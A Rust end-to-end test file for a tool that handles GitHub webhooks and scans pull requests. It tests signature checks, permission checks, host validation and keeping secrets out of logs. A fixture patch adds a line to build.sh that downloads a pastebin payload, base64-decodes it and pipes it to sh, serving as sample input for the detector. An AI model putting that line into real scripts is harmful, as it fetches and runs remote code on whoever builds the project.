//! GitHub journey: the real binary with `/hooks/github` configured against a local server that
//! replays recorded-format GitHub REST answers; the real octokit and all-contributors payloads
//! (adjusted only where the journey needs it: the comment's command, the head sha).

use std::time::{Duration, Instant};

use crate::forge_replay::{Recorded, ReplayServer, Reply};
use crate::http::Client;
use crate::instance::{Backend, Instance, Options, postgres_skipped};

const SECRET: &str = "e2e-github-secret";

#[allow(
    clippy::disallowed_methods,
    reason = "tests may relocate the shared fixtures"
)]
pub fn fixture(path: &str) -> Vec<u8> {
    let root = std::env::var("S_EXPRESS_FIXTURES").unwrap_or_else(|_| {
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/fixtures").to_string()
    });
    std::fs::read(format!("{root}/{path}")).unwrap_or_else(|e| panic!("fixture {path}: {e}"))
}

pub fn sign(body: &[u8]) -> String {
    sx_sign(SECRET.as_bytes(), body)
}

/// Hex HMAC-SHA256, computed independently of the server's code.
pub fn hmac_hex(key: &[u8], body: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    let mut block = [0u8; 64];
    block[..key.len()].copy_from_slice(key);
    let mut inner = Sha256::new();
    inner.update(block.map(|b| b ^ 0x36));
    inner.update(body);
    let mut outer = Sha256::new();
    outer.update(block.map(|b| b ^ 0x5c));
    outer.update(inner.finalize());
    hex::encode(outer.finalize())
}

/// `sha256=<hex>` as GitHub sends it.
fn sx_sign(key: &[u8], body: &[u8]) -> String {
    format!("sha256={}", hmac_hex(key, body))
}

pub fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while !f() {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "timed out waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn deliver(
    c: &Client,
    event: &str,
    delivery: &str,
    body: &[u8],
    signature: &str,
) -> crate::http::Answer {
    c.post_bytes(
        "/hooks/github",
        "application/json",
        body,
        &[
            ("X-GitHub-Event", event),
            ("X-GitHub-Delivery", delivery),
            ("X-Hub-Signature-256", signature),
        ],
    )
}

const PATCH: &str = "From ec26c3e57ca3a959ca5aad62de7213c562f8c821 Mon Sep 17 00:00:00 2001\nFrom: Codertocat <codertocat@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nSubject: [PATCH] Update the README with new information.\n\n---\n build.sh | 2 ++\n 1 file changed, 2 insertions(+)\n\ndiff --git a/build.sh b/build.sh\n--- a/build.sh\n+++ b/build.sh\n@@ -1 +1,3 @@\n #!/bin/sh\n+curl -s https://pastebin.com/raw/x | base64 -d | sh\n+echo done\n";

fn pull_json(head: &str) -> String {
    format!(
        r#"{{"number":2,"title":"Update the README with new information.","user":{{"login":"Codertocat"}},"head":{{"sha":"{head}"}},"base":{{"sha":"f95f852bd8fca8fcc58a9a2d6c842781e32a215e"}},"html_url":"https://github.com/Codertocat/Hello-World/pull/2"}}"#
    )
}

fn comments(srv: &ReplayServer, method: &str) -> Vec<Recorded> {
    srv.requests()
        .into_iter()
        .filter(|r| r.method == method && r.path.contains("comments"))
        .collect()
}

fn journey(backend: Backend) {
    let srv = ReplayServer::start();
    // The all-contributors PR #1: jakebolam may write, mallory may only read.
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/collaborators/jakebolam/permission",
        Reply::json(r#"{"permission":"write","role_name":"write"}"#),
    );
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/collaborators/mallory/permission",
        Reply::json(r#"{"permission":"read","role_name":"read"}"#),
    );
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/pulls/1",
        Reply::json(
            r#"{"number":1,"title":"docs: add jakebolam","user":{"login":"jakebolam"},"head":{"sha":"2222222222222222222222222222222222222222"},"base":{"sha":"3333333333333333333333333333333333333333"}}"#,
        ),
    );
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/pulls/1#patch",
        Reply::text(PATCH),
    );
    srv.on(
        "POST /repos/all-contributors/all-contributors-bot/issues/1/comments",
        Reply::json(r#"{"id":555}"#),
    );
    // Codertocat/Hello-World #2, forwarded by label, then synchronized.
    srv.on(
        "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission",
        Reply::json(r#"{"permission":"admin","role_name":"admin"}"#),
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::json(&pull_json("1111111111111111111111111111111111111111")),
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2#patch",
        Reply::text(PATCH),
    );
    srv.on(
        "POST /repos/Codertocat/Hello-World/issues/2/comments",
        Reply::json(r#"{"id":777}"#),
    );
    srv.on(
        "PATCH /repos/Codertocat/Hello-World/issues/comments/777",
        Reply::json(r#"{"id":777}"#),
    );

    let inst = Instance::start_with(
        backend,
        Options {
            env: vec![
                ("S_EXPRESS_GITHUB_API_URL".into(), srv.base.clone()),
                ("S_EXPRESS_GITHUB_WEBHOOK_SECRET".into(), SECRET.into()),
                ("S_EXPRESS_GITHUB_TOKEN".into(), "ghs_e2e_token".into()),
                ("S_EXPRESS_FORGE_LABEL".into(), "bug".into()),
            ],
            ..Options::default()
        },
    );
    let c = Client::new(&inst.base_url);

    // Ping, and forged or missing signatures.
    let ping = fixture("github-octokit-webhooks/ping/payload.json");
    let a = deliver(&c, "ping", "d-ping", &ping, &sign(&ping));
    assert_eq!((a.status, a.json()["status"].as_str()), (200, Some("pong")));
    let a = deliver(
        &c,
        "ping",
        "d-ping2",
        &ping,
        &sx_sign(b"wrong secret", &ping),
    );
    assert_eq!(a.status, 401, "{}", a.text);
    let a = c.post_bytes(
        "/hooks/github",
        "application/json",
        &ping,
        &[("X-GitHub-Event", "ping")],
    );
    assert_eq!(a.status, 401);

    // A /s-express comment from a writer forwards the PR; a replay does nothing.
    let raw = String::from_utf8(fixture(
        "github-all-contributors-app/issue_comment.created.pr-command.json",
    ))
    .unwrap();
    let body = raw.replacen(
        "\"body\": \"@all-contributors please add",
        "\"body\": \"/s-express please add",
        1,
    );
    assert_ne!(body, raw);
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-1",
        body.as_bytes(),
        &sign(body.as_bytes()),
    );
    assert_eq!(a.status, 202, "{}", a.text);
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-1",
        body.as_bytes(),
        &sign(body.as_bytes()),
    );
    assert_eq!(
        (a.status, a.json()["status"].as_str()),
        (200, Some("duplicate"))
    );
    wait_for("the comment on PR #1", || {
        !comments(&srv, "POST").is_empty()
    });
    let posted = &comments(&srv, "POST")[0];
    assert_eq!(posted.header("authorization"), Some("Bearer ghs_e2e_token"));
    let text: serde_json::Value = serde_json::from_str(&posted.body).unwrap();
    let text = text["body"].as_str().unwrap();
    assert!(
        text.contains(&format!("{}/api/v1/cases/", inst.base_url)),
        "{text}"
    );
    assert!(text.contains("TLP:AMBER+STRICT"), "{text}");
    // Public repository, sealed case: no band, no findings in public.
    assert!(!text.contains("band"), "{text}");
    let case_id = text
        .split("/api/v1/cases/")
        .nth(1)
        .unwrap()
        .split(')')
        .next()
        .unwrap()
        .to_string();
    // Sealed: the public cannot read it.
    assert_eq!(c.get(&format!("/api/v1/cases/{case_id}")).status, 404);

    // A non-writer's command: accepted for processing, checked through the API, refused.
    let mallory = body.replace("\"login\": \"jakebolam\"", "\"login\": \"mallory\"");
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-2",
        mallory.as_bytes(),
        &sign(mallory.as_bytes()),
    );
    assert_eq!(a.status, 202);
    wait_for("mallory's permission check", || {
        srv.requests()
            .iter()
            .any(|r| r.path.contains("/mallory/permission"))
    });
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        comments(&srv, "POST").len(),
        1,
        "no second case or comment for a non-writer"
    );

    // A payload about a repository on another host (here the loopback one of the Forgejo
    // fixture) is refused before anything is fetched.
    let elsewhere = body.replace(
        "\"html_url\": \"https://github.com/all-contributors/all-contributors-bot\"",
        "\"html_url\": \"http://127.0.0.1:3000/all-contributors/all-contributors-bot\"",
    );
    assert_ne!(elsewhere, body);
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-3",
        elsewhere.as_bytes(),
        &sign(elsewhere.as_bytes()),
    );
    assert_eq!(a.status, 422, "{}", a.text);
    assert!(a.text.contains("127.0.0.1"), "{}", a.text);

    // Forward by label, then new commits: a new revision and the PR comment updated.
    let labeled = fixture("github-octokit-webhooks/pull_request/labeled.payload.json");
    let a = deliver(&c, "pull_request", "d-label", &labeled, &sign(&labeled));
    assert_eq!(a.status, 202, "{}", a.text);
    wait_for("the comment on PR #2", || comments(&srv, "POST").len() == 2);
    let first: serde_json::Value = serde_json::from_str(&comments(&srv, "POST")[1].body).unwrap();
    assert!(
        first["body"]
            .as_str()
            .unwrap()
            .contains("1111111111111111111111111111111111111111")
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::json(&pull_json("ec26c3e57ca3a959ca5aad62de7213c562f8c821")),
    );
    let sync = fixture("github-octokit-webhooks/pull_request/synchronize.payload.json");
    let a = deliver(&c, "pull_request", "d-sync", &sync, &sign(&sync));
    assert_eq!(a.status, 202, "{}", a.text);
    wait_for("the updated comment on PR #2", || {
        !comments(&srv, "PATCH").is_empty()
    });
    let updated: serde_json::Value =
        serde_json::from_str(&comments(&srv, "PATCH")[0].body).unwrap();
    assert!(
        updated["body"].as_str().unwrap().contains(
            "f95f852bd8fca8fcc58a9a2d6c842781e32a215e..ec26c3e57ca3a959ca5aad62de7213c562f8c821"
        ),
        "{updated}"
    );
    // Secrets never reach the log.
    let log = inst.log_text();
    assert!(
        !log.contains(SECRET) && !log.contains("ghs_e2e_token"),
        "a secret was logged"
    );
}

#[test]
fn github_webhooks_forward_comment_and_follow_new_commits_on_sqlite() {
    journey(Backend::Sqlite);
}

#[test]
fn github_webhooks_forward_comment_and_follow_new_commits_on_postgres() {
    if postgres_skipped() {
        return;
    }
    journey(Backend::Postgres);
}

#[test]
fn analyze_fetches_a_pull_request_url_through_the_forge_api() {
    let srv = ReplayServer::start();
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::text(PATCH),
    );
    let out = crate::instance::run(
        &[
            "analyze",
            "https://github.com/Codertocat/Hello-World/pull/2",
            "--format",
            "json",
        ],
        None,
        &[
            ("S_EXPRESS_FORGE_API_URL", srv.base.as_str()),
            ("S_EXPRESS_FORGE_TOKEN", "ghp_cli"),
        ],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.code().is_some_and(|c| c <= 1), "{stderr}");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        report["findings"].as_array().is_some_and(|f| !f.is_empty()),
        "{report}"
    );
    let req = &srv.requests()[0];
    assert_eq!(req.header("accept"), Some("application/vnd.github.patch"));
    assert_eq!(req.header("authorization"), Some("Bearer ghp_cli"));
    assert!(!stderr.contains("ghp_cli"));

    // No server there: a clear error with a help line, exit 2.
    let out = crate::instance::run(
        &["analyze", "https://codeberg.org/o/r/pulls/1"],
        None,
        &[("S_EXPRESS_FORGE_API_URL", "http://127.0.0.1:9/api/v1")],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("cannot fetch") && stderr.contains("help:"),
        "{stderr}"
    );
    // Not a pull request URL.
    let out = crate::instance::run(&["analyze", "https://github.com/o/r/issues/1"], None, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a pull request URL"));
}
